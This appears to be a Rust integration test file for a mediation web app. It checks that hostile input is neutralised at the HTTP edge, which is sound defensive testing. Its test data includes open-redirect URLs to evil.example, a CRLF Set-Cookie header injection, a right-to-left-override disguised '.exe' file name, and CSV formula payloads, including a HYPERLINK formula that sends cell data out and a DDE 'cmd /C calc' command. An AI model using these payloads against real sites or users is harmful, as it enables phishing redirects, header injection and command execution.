//! Input at the edge, over HTTP on either backend: where `next` may send a browser, errors
//! raised while a response is built, NUL and control characters in every kind of input,
//! amounts and dates out of sense, disguised file names and formulas in the CSV export, and
//! the one shape of invalid input on the API.
use concilia::db::{self, schema};
use concilia::domain::Role;
use diesel::prelude::*;

use crate::case_file::{PDF, mediation, upload};
use crate::cases::{answers, cast, file_case};
use crate::helpers::{PASSWORD, TestApp, location, spawn_app};

/// `next` values a browser could follow to another site: each ends on the dashboard.
const HOSTILE_NEXT: &[&str] = &[
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "/%09/evil.example",
    "/%0a/evil.example",
    "/%5C%5Cevil.example",
    "/%2F/evil.example",
    "/.//evil.example",
    "/..//evil.example",
    "/%2e%2e//evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "/\t/evil.example",
    "/\r\nSet-Cookie: a=b",
];

async fn user_count(app: &TestApp) -> i64 {
    app.db(|c| Ok(schema::users::table.count().get_result::<i64>(c)?))
        .await
}

fn content_type(res: &reqwest::Response) -> String {
    res.headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default()
}

#[tokio::test]
async fn after_sign_in_next_leads_only_to_a_page_of_this_site() {
    let app = spawn_app().await;
    app.create_user("Ana", "ana@example.org", Role::Consumer, None)
        .await;
    for next in HOSTILE_NEXT {
        let (client, jar) = app.new_browser();
        let res = app
            .post_form_as(
                &client,
                &jar,
                "/signin",
                &[
                    ("email", "ana@example.org"),
                    ("password", PASSWORD),
                    ("next", next),
                ],
            )
            .await;
        assert_eq!(res.status(), 303, "{next:?}");
        assert_eq!(location(&res), "/dashboard", "{next:?}");
    }
    // A page of this site is where the user goes.
    let res = app
        .post_form(
            "/signin",
            &[
                ("email", "ana@example.org"),
                ("password", PASSWORD),
                ("next", "/cases?state=closed"),
            ],
        )
        .await;
    assert_eq!(location(&res), "/cases?state=closed");
    // Signed in, the sign-in page itself sends on, by the same rule.
    let res = app.get("/signin?next=/%2e%2e//evil.example").await;
    assert_eq!(location(&res), "/dashboard");
    // The form carries only a safe `next`.
    let (client, _) = app.new_browser();
    let html = client
        .get(app.url("/signin?next=%2F%5Cevil.example"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        html.contains(r#"name="next" value="&#x2f;dashboard""#),
        "{html}"
    );
}

#[tokio::test]
async fn a_line_break_in_next_gets_our_answer_never_actixs_plain_500() {
    let app = spawn_app().await;
    app.create_user("Ana", "ana@example.org", Role::Consumer, None)
        .await;
    // In the query: refused at the edge with our page, signed in or not.
    for _ in 0..2 {
        let res = app.get("/signin?next=/%0d%0aSet-Cookie:%20a=b").await;
        assert_eq!(res.status(), 400);
        assert_eq!(content_type(&res), "text/html; charset=utf-8");
        assert!(
            res.headers()
                .get("set-cookie")
                .is_none_or(|c| !c.to_str().unwrap().starts_with("a="))
        );
        let body = res.text().await.unwrap();
        assert!(!body.contains("failed to parse header value"), "{body}");
        assert!(body.contains("characters that are not allowed"), "{body}");
        app.sign_in("ana@example.org", PASSWORD).await;
    }
    // In the form (where line breaks are text): the sign-in goes to the dashboard.
    let (client, jar) = app.new_browser();
    let res = app
        .post_form_as(
            &client,
            &jar,
            "/signin",
            &[
                ("email", "ana@example.org"),
                ("password", PASSWORD),
                ("next", "/cases\r\nSet-Cookie: a=b"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    assert_eq!(location(&res), "/dashboard");
}

#[tokio::test]
async fn a_page_behind_sign_in_sends_a_visitor_to_sign_in_and_back() {
    let app = spawn_app().await;
    let res = app.get("/cases?state=closed").await;
    assert_eq!(res.status(), 303);
    assert_eq!(location(&res), "/signin?next=%2Fcases%3Fstate%3Dclosed");
}

#[tokio::test]
async fn nul_and_control_characters_are_refused_at_the_edge_and_nothing_is_stored() {
    let app = spawn_app().await;
    let api = reqwest::Client::new();
    // The unauthenticated API sign-in, which reached PostgreSQL with the NUL.
    for body in [
        r#"{"email":"x\u0000@example.com","password":"whatever password"}"#,
        r#"{"email":"x@example.com","password":"pass\u0000word"}"#,
        r#"{"email":"x@example.com","password":"a\u001bb"}"#,
    ] {
        let res = api
            .post(app.url("/api/v1/session"))
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400, "{body}");
        let json: serde_json::Value = res.json().await.unwrap();
        assert_eq!(json["error"]["code"], "invalid_characters", "{body}");
    }
    // A form field: the sign-up stores nobody.
    let before = user_count(&app).await;
    for name in ["Ana\u{0}", "Ana\u{7}", "Ana\u{7f}", "Ana\u{85}"] {
        let res = app
            .post_form(
                "/signup",
                &[
                    ("name", name),
                    ("email", "nul@example.org"),
                    ("password", PASSWORD),
                    ("password_confirm", PASSWORD),
                    ("language", "en"),
                ],
            )
            .await;
        assert_eq!(res.status(), 400, "{name:?}");
        assert_eq!(content_type(&res), "text/html; charset=utf-8");
    }
    let res = app
        .post_form(
            "/signin",
            &[("email", "x\u{0}@example.com"), ("password", "p")],
        )
        .await;
    assert_eq!(res.status(), 400);
    // A form body is read as one whatever type it claims.
    let token = app.csrf().await;
    let res = app
        .client
        .post(app.url("/signin"))
        .header("content-type", "text/plain")
        .body(format!(
            "email=x%00%40example.com&password=p&csrf_token={token}"
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 400);
    assert_eq!(user_count(&app).await, before);

    app.signed_in_as(Role::Admin).await;
    // A path id, a search, a filter.
    for path in [
        "/cases/%00",
        "/cases/abc%00def/documents",
        "/cases?q=%00",
        "/cases?q=a%1Bb",
        "/cases?state=%00",
        "/api/v1/cases/%00",
    ] {
        let res = app.get(path).await;
        assert_eq!(res.status(), 400, "{path}");
        if path.starts_with("/api/") {
            let json: serde_json::Value = res.json().await.unwrap();
            assert_eq!(json["error"]["code"], "invalid_characters");
        } else {
            assert_eq!(content_type(&res), "text/html; charset=utf-8", "{path}");
        }
    }
    // Text that only looks odd passes: a search with LIKE wildcards and another script.
    for path in [
        "/cases?q=100%25",
        "/cases?q=a_b",
        "/cases?q=%D0%B6%E2%80%8F",
    ] {
        assert_eq!(app.get(path).await.status(), 200, "{path}");
    }
}

#[tokio::test]
async fn an_upload_text_field_with_a_nul_is_refused_beside_the_field_and_stores_nothing() {
    let app = spawn_app().await;
    let c = cast(&app).await;
    let (id, _) = mediation(&app, &c).await;
    let csrf = crate::helpers::cookie_in(&c.consumer.jar, &app.address, "concilia_csrf")
        .expect("csrf cookie");
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", csrf)
        .text("audience", "everyone")
        .text("title", "Receipt\u{0}")
        .text("description", "")
        .part(
            "file",
            reqwest::multipart::Part::bytes(PDF.to_vec()).file_name("receipt.pdf"),
        );
    let res = c
        .consumer
        .client
        .post(app.url(&format!("/cases/{id}/documents")))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 422);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("characters that are not allowed")
    );
    let docs = app
        .db(move |c| {
            db::case_file::documents(
                c,
                &id,
                &[concilia::domain::cases::codes::Audience::Everyone],
            )
        })
        .await;
    assert!(docs.is_empty());
}

#[tokio::test]
async fn a_disguised_file_name_is_stored_and_sent_plain() {
    let app = spawn_app().await;
    let c = cast(&app).await;
    let (id, _) = mediation(&app, &c).await;
    let res = upload(
        &app,
        &c.consumer,
        &id,
        "everyone",
        vec![("photo\u{202e}gnp.exe\u{202c}\u{200b}.pdf", PDF.to_vec())],
    )
    .await;
    assert_eq!(res.status(), 303);
    let case_id = id.clone();
    let doc = app
        .db(move |c| {
            db::case_file::documents(
                c,
                &case_id,
                &[concilia::domain::cases::codes::Audience::Everyone],
            )
        })
        .await
        .pop()
        .unwrap();
    assert_eq!(doc.file_name, "photognp.exe.pdf");
    let res = c
        .consumer
        .get(&app, &format!("/cases/{id}/documents/{}", doc.id))
        .await;
    assert_eq!(res.status(), 200);
    let disposition = res.headers()["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment;") && disposition.contains("photognp.exe.pdf"),
        "{disposition}"
    );
    assert!(!disposition.contains("%E2%80%AE") && !disposition.contains("%E2%80%8B"));
}

#[tokio::test]
async fn amounts_are_read_in_the_page_language_and_over_precise_ones_refused_beside_the_field() {
    let app = spawn_app().await;
    let c = cast(&app).await;
    let res = c.consumer.post(&app, "/cases", &[]).await;
    let draft = location(&res);
    let id = draft
        .trim_start_matches("/cases/")
        .split('/')
        .next()
        .unwrap()
        .to_string();
    let purchase: Vec<(&str, &str)> = answers()
        .into_iter()
        .find(|(s, _)| *s == "purchase")
        .unwrap()
        .1;
    let post = |price: &'static str, date: &'static str| {
        let mut fields: Vec<(&str, &str)> = purchase
            .iter()
            .filter(|(k, _)| *k != "price" && *k != "purchase_date")
            .copied()
            .collect();
        fields.push(("price", price));
        fields.push(("purchase_date", date));
        let (app, b, id) = (&app, &c.consumer, id.clone());
        async move {
            b.post(app, &format!("/cases/{id}/draft/purchase"), &fields)
                .await
        }
    };
    let price_of = || {
        let id = id.clone();
        let app = &app;
        async move { crate::cases::state_of(app, &id).await.price_minor }
    };
    // 0.001 euro was read as 1.00.
    let res = post("0.001", "2026-05-02").await;
    assert_eq!(res.status(), 422);
    let html = res.text().await.unwrap();
    assert!(
        html.contains("more decimals than the currency has"),
        "{html}"
    );
    assert!(html.contains(r#"value="0.001""#), "what was typed is kept");
    assert_eq!(price_of().await, None);
    // English groups with commas; "1,5" groups nothing and is refused.
    assert_eq!(post("1,5", "2026-05-02").await.status(), 422);
    assert_eq!(post("1,299.50", "2026-05-02").await.status(), 303);
    assert_eq!(price_of().await, Some(129_950));
    // In Bulgarian the comma is the decimal mark, and 1299.5 still reads alike.
    let consumer = app.user_by_email("clara@example.org").await;
    app.db(move |c| {
        diesel::update(schema::users::table.find(consumer.id))
            .set(schema::users::language.eq("bg"))
            .execute(c)?;
        Ok(())
    })
    .await;
    assert_eq!(post("1 299,5", "2026-05-02").await.status(), 303);
    assert_eq!(price_of().await, Some(129_950));
    assert_eq!(post("12.5", "2026-05-02").await.status(), 303);
    assert_eq!(price_of().await, Some(1_250));
    assert_eq!(post("0,001", "2026-05-02").await.status(), 422);
    // A purchase in the year 9999 is refused beside its field.
    let res = post("10", "9999-01-01").await;
    assert_eq!(res.status(), 422);
    let html = res.text().await.unwrap();
    assert!(html.contains(r#"value="9999-01-01""#));
    assert!(html.contains(&concilia::i18n::t("bg", "error-date-future")));
}

#[tokio::test]
async fn dates_far_outside_sense_are_refused_with_the_field_named() {
    let app = spawn_app().await;
    app.signed_in_as(Role::Admin).await;
    let holidays = || async {
        app.db(|c| Ok(schema::holidays::table.count().get_result::<i64>(c)?))
            .await
    };
    let res = app
        .post_form(
            "/admin/holidays",
            &[("country", "BG"), ("day", "9999-12-25"), ("name", "Far")],
        )
        .await;
    assert_eq!(res.status(), 422);
    let html = res.text().await.unwrap();
    assert!(html.contains(&concilia::i18n::t("en", "error-date-calendar-range")));
    assert_eq!(holidays().await, 0);
    let res = app
        .get("/reports?kind=annual&from=1900-01-01&to=2025-12-31")
        .await;
    let html = res.text().await.unwrap();
    assert!(
        html.contains(&concilia::i18n::t("en", "error-date-report-range")),
        "{html}"
    );
    let res = app
        .post_form(
            "/training",
            &[
                ("title", "Mediation"),
                ("provider", "Academy"),
                ("started_on", "1999-01-01"),
                ("ended_on", "1999-01-02"),
                ("hours", "3"),
            ],
        )
        .await;
    assert_eq!(res.status(), 422);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains(&concilia::i18n::t("en", "error-date-too-old"))
    );
}

/// Trader names a consumer could type, each a formula a spreadsheet would run.
const FORMULAS: &[&str] = &[
    r#"=HYPERLINK("http://example.org/?x="&A1,"open")"#,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
];

#[tokio::test]
async fn a_formula_typed_as_a_trader_name_comes_out_of_the_csv_as_text() {
    let app = spawn_app().await;
    let filer = app
        .create_user("Filer", "filer@example.org", Role::Admin, None)
        .await
        .id;
    let cases: Vec<_> = FORMULAS
        .iter()
        .enumerate()
        .map(|(n, name)| {
            let mut c = crate::reports::case(n as u32 + 1, &filer, Some("2025-03-01"));
            c.trader_name = name.to_string();
            c
        })
        .collect();
    app.db(move |c| {
        for x in &cases {
            diesel::insert_into(schema::cases::table)
                .values(x.clone())
                .execute(c)?;
        }
        Ok(())
    })
    .await;
    let b = app
        .person(Role::Admin, "Sam Staff", "sam@centre.example", None)
        .await
        .1;
    let q = "/reports?kind=annual&from=2025-01-01&to=2025-12-31";
    let csv = b.text(&app, &format!("{q}&format=csv")).await;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut traders = std::collections::BTreeSet::new();
    for row in reader.records() {
        let row = row.unwrap();
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        if &row[0] == "top_traders" && &row[1] == "all" && &row[3] == "count" {
            traders.insert(row[2].to_string());
            assert_eq!(&row[4], "1");
        }
    }
    let expected: std::collections::BTreeSet<String> =
        FORMULAS.iter().map(|f| format!("'{f}")).collect();
    assert_eq!(traders, expected);
    // The JSON export keeps the names exactly as typed.
    let json: serde_json::Value = b
        .get(&app, &format!("{q}&format=json"))
        .await
        .json()
        .await
        .unwrap();
    let all = json["scopes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["scope"] == "all")
        .unwrap();
    let names: std::collections::BTreeSet<String> = all["top_traders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["key"].as_str().unwrap().to_string())
        .collect();
    let typed: std::collections::BTreeSet<String> =
        FORMULAS.iter().map(|f| f.to_string()).collect();
    assert_eq!(names, typed);
}

/// Sends an API request; the status and the JSON body.
async fn api_answer(req: reqwest::RequestBuilder) -> (u16, serde_json::Value) {
    let res = req.send().await.unwrap();
    let status = res.status().as_u16();
    (status, res.json().await.unwrap())
}

/// Asserts the 422 of invalid input, naming `field` with `code` and its message in English.
fn assert_invalid(body: &serde_json::Value, field: &str, code: &str, message_id: &str) {
    let error = &body["error"];
    assert_eq!(error["code"], "invalid", "{body}");
    assert_eq!(
        error["message"],
        concilia::i18n::t("en", "error-form-has-problems"),
        "{body}"
    );
    assert_eq!(error["field_codes"][field], code, "{body}");
    assert_eq!(
        error["fields"][field],
        concilia::i18n::t("en", message_id),
        "{body}"
    );
}

#[tokio::test]
async fn invalid_input_on_the_api_is_one_422_shape_whichever_path_found_it() {
    let app = spawn_app().await;
    let c = cast(&app).await;
    let id = file_case(&app, &c.consumer).await;
    let token = app.api_token("clara@example.org").await;
    let session = || app.client.post(app.url("/api/v1/session"));

    // A JSON body without a field it needs.
    let (status, body) =
        api_answer(session().json(&serde_json::json!({ "email": "clara@example.org" }))).await;
    assert_eq!(status, 422);
    assert_invalid(&body, "password", "required", "error-required");

    // A JSON body with a value of the wrong type: serde does not say whose, so the body.
    let (status, body) =
        api_answer(session().json(&serde_json::json!({ "email": 5, "password": "x" }))).await;
    assert_eq!(status, 422);
    assert_invalid(&body, "", "input_malformed", "error-input-malformed");

    // A query that does not fit: the cursor given twice.
    let (status, body) = api_answer(
        app.client
            .get(app.url(&format!("/api/v1/cases/{id}/messages?after=a&after=b")))
            .bearer_auth(&token),
    )
    .await;
    assert_eq!(status, 422);
    assert_invalid(&body, "after", "input_malformed", "error-input-malformed");

    // A domain function's own check.
    let (status, body) = api_answer(
        app.client
            .post(app.url(&format!("/api/v1/cases/{id}/messages")))
            .bearer_auth(&token)
            .json(&serde_json::json!({ "audience": "everyone", "body": " " })),
    )
    .await;
    assert_eq!(status, 422);
    assert_invalid(&body, "body", "required", "error-required");

    // Text that is not JSON at all is no input to check: a bad request.
    let res = session()
        .header("Content-Type", "application/json")
        .body("{not json")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 400);
    let body: serde_json::Value = res.json().await.unwrap();
    assert_eq!(body["error"]["code"], "bad_request");

    // A page's query that does not fit is a bad request, as before.
    let res = c.consumer.get(&app, "/cases?after=a&after=b").await;
    assert_eq!(res.status(), 400);
}
